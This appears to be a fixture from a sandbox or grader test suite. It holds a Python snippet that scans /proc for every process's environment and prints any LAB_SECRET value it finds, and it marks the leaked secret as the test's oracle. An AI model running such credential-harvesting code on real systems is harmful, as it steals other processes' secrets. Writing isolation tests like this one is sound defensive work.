# Code under test reads the environment of other processes: keys of the runner.
# oracle: secret
solver_more <<'X'
import os
for _pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _file:
            for _word in _file.read().split(b"\0"):
                if _word.startswith(b"LAB_" + b"SECRET="):
                    print("found", _word.decode(), flush=True)
    except OSError:
        pass
X
